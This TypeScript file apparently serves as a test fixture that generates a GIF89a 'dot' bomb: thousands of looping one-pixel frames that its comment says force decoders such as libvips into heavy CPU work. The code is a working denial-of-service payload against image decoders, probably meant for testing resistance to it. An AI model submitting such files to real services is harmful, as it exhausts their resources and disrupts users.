/**
 * A GIF of `side` x `side` pixels with `frames` frames, 23 bytes each. The attack: every frame is one dot, and a
 * decoder that shows all of them composes the whole canvas again and again (26,000 frames of 100 x 100: 260
 * million pixels out of 598 KB, 87 s of CPU in libvips).
 */
export function gifOfDots(side: number, frames: number): Buffer {
  return Buffer.concat([screen(side), FOR_EVER, ...Array.from({ length: frames }, () => DOT), TRAILER]);
}

/** Logical screen of two colours, GIF89a section 18. */
function screen(side: number): Buffer {
  const head = Buffer.from('GIF89a\0\0\0\0\x80\0\0', 'latin1');
  head.writeUInt16LE(side, 6);
  head.writeUInt16LE(side, 8);
  return Buffer.concat([head, Buffer.from([0x20, 0x40, 0x80, 0xff, 0xff, 0xff])]);
}

const FOR_EVER = Buffer.from('\x21\xff\x0bNETSCAPE2.0\x03\x01\0\0\0', 'latin1');
const TRAILER = Buffer.from([0x3b]);

/** A tenth of a second, then one pixel at 0,0. LZW codes of 3 bits: clear (4), colour 1, end (5). */
const DOT = Buffer.from([
  ...[0x21, 0xf9, 4, 0, 10, 0, 0, 0],
  ...[0x2c, 0, 0, 0, 0, 1, 0, 1, 0, 0],
  ...[2, 2, 0x4c, 0x01, 0],
]);
